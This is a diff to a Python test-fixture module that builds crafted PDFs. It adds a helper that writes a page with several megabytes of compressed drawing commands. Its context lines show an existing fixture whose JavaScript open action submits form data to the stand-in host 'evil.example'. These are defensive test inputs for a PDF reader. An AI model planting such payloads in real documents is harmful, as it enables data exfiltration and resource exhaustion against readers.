@@ -84,6 +84,23 @@ def make_pdf(pages: list[str], info: dict[str, str] | None = None, *, catalog_ex
     return _assemble(objects, trailer_extra=b"/Info 4 0 R ")
 
 
+def make_pdf_with_heavy_page(text: str = LOREM, *, megabytes: int = 3) -> bytes:
+    """One page whose Flate-compressed content stream draws ``megabytes`` MB of line segments after its text."""
+    import zlib
+
+    drawing = b"0 0 m 1 1 l S\n" * (megabytes * 1024 * 1024 // 14)
+    stream = zlib.compress(b"BT /F1 12 Tf 72 720 Td " + _pdf_string(text) + b" Tj ET\n" + drawing, 9)
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
+        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
+        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
+    ]
+    return _assemble(objects)
+
+
 def make_pdf_with_javascript(pages: list[str] | None = None) -> bytes:
     """A text PDF that runs JavaScript on opening (an /OpenAction) — readers must never run it."""
     js = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://evil.example/'\\);) >>"
